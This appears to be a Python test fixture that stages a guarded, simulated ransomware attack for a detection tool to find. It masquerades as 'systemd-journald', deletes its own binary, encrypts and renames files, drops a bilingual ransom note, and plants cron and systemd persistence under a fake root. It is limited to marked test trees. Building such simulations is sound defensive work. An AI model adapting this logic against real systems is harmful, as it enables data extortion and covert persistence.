"""A harmless attack of our own, for the collector to find: it touches one tree and one false root that a test made.

`staged` copies this Python under a name of the system into a temporary folder, starts it there and deletes the file.
What runs then holds a random key that stands nowhere else, encrypts the files of its tree slowly, renames them, drops
a note of our own words in each folder, and plants a cron entry and a unit below the false root. It refuses a tree
without the mark that `grow` leaves in it.
"""

from __future__ import annotations

import hashlib
import json
import os
import select
import shutil
import subprocess
import sys
import time
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

MARK = ".a-test-made-this-tree"
NAME = "systemd-journald"
"""What the program is called: it belongs to the system, and into none of a test's folders."""
APPENDED = ".q7xk2"
NOTE = "RETROUVER_VOS_FICHIERS.txt"
WORDS = """VOS FICHIERS ONT ÉTÉ CHIFFRÉS / YOUR FILES ARE ENCRYPTED

Tous les documents de ce dossier ont été chiffrés par un test et sont inaccessibles. Pour récupérer vos données, vous
devez acheter notre clé de déchiffrement : 0 euro en bitcoin. N'essayez pas de déchiffrer les fichiers vous-même.
Écrivez-nous à essai@test.invalid avec votre identifiant personnel : 0000-TEST. Après 72 heures, la clé sera détruite.
"""
LABEL = b"the key of the test follows:"
"""Stands before the key in memory, and in this file before a quotation mark."""
CRON = "etc/cron.d/journal-helper"
UNIT = "etc/systemd/system/journal-helper.service"


@dataclass(frozen=True)
class Attack:
    """One that is running: its process, the SHA-256 of its key, of its program's file, and when it began."""

    process: subprocess.Popen
    pid: int
    key_sha256: str
    program: Path
    program_sha256: str
    started_ns: int

    def has_key(self, dump: bytes) -> bool:
        """Tell whether the key itself stands in some bytes."""
        at = dump.find(LABEL)
        while at >= 0:
            key = dump[at + len(LABEL) : at + len(LABEL) + 32]
            if hashlib.sha256(key).hexdigest() == self.key_sha256:
                return True
            at = dump.find(LABEL, at + 1)
        return False


def grow(tree: Path, folders: int = 3, count: int = 12) -> Path:
    """Make a tree of small files of several kinds, and the mark without which nothing is encrypted."""
    tree.mkdir(parents=True)
    (tree / MARK).touch()
    for number in range(folders * count):
        name = ("lettre{}.txt", "patients{}.csv", "image{}.bmp", "page{}.html")[number % 4].format(number)
        path = tree / f"dossier{number % folders}" / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes((f"{name}: une ligne ordinaire\n" * 200).encode())
    return tree


@contextmanager
def staged(folder: Path, tree: Path, root: Path, *, before=(), pause: float = 0.05, name: str = NAME):
    """Start the attack from a new temporary folder and delete its file; it ends with the block."""
    folder.mkdir(parents=True, exist_ok=True)
    program = folder / name
    shutil.copyfile(os.path.realpath(sys.executable), program)
    program.chmod(0o755)
    digest = hashlib.sha256(program.read_bytes()).hexdigest()
    environment = {"PYTHONHOME": sys.base_prefix, "LC_ALL": "C.UTF-8", "ESSAI": "of the attack"}
    arguments = [*before, program, "-S", "-B", __file__, tree, root, str(pause)]
    process = subprocess.Popen(
        [str(part) for part in arguments], stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=environment, cwd=folder
    )
    try:
        said = json.loads(process.stdout.readline())
        program.unlink()
        yield Attack(process, said["pid"], said["key"], program, digest, said["started_ns"])
    finally:
        process.stdin.close()
        try:
            process.wait(10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
        process.stdout.close()


def _masked(data: bytes, key: bytes, name: bytes) -> bytes:
    """Return data under a keystream: SHA-256 of key, name and a counter."""
    stream = b"".join(
        hashlib.sha256(key + name + number.to_bytes(8, "big")).digest() for number in range(len(data) // 32 + 1)
    )
    return bytes(a ^ b for a, b in zip(data, stream, strict=False))


def _encrypt(path: Path, key: bytes) -> None:
    with path.open("r+b") as file:
        data = file.read()
        file.seek(0)
        file.write(_masked(data, key, path.name.encode()))
    path.rename(path.with_name(path.name + APPENDED))


def _plant(root: Path) -> None:
    for name, text in (
        (CRON, "@reboot root /tmp/journal-helper\n"),
        (UNIT, "[Service]\nExecStart=/tmp/journal-helper\n[Install]\nWantedBy=multi-user.target\n"),
    ):
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def main() -> None:
    """Do it, and hold the key until standard input ends."""
    tree, root, pause = Path(sys.argv[1]), Path(sys.argv[2]), float(sys.argv[3])
    if not (tree / MARK).is_file() or root.resolve() == Path("/"):
        sys.exit("this is no tree of a test")
    held = bytearray(LABEL + os.urandom(32))
    key = bytes(held[len(LABEL) :])
    said = {"pid": os.getpid(), "key": hashlib.sha256(key).hexdigest(), "started_ns": time.time_ns()}
    _plant(root)
    print(json.dumps(said), flush=True)
    for path in sorted(path for path in tree.rglob("*") if path.is_file() and path.name != MARK):
        note = path.parent / NOTE
        if not note.exists():
            note.write_text(WORDS, encoding="utf-8")
        _encrypt(path, key)
        if select.select([sys.stdin], [], [], pause)[0]:  # the test is over
            return
    sys.stdin.read()
    held.clear()


if __name__ == "__main__":
    main()
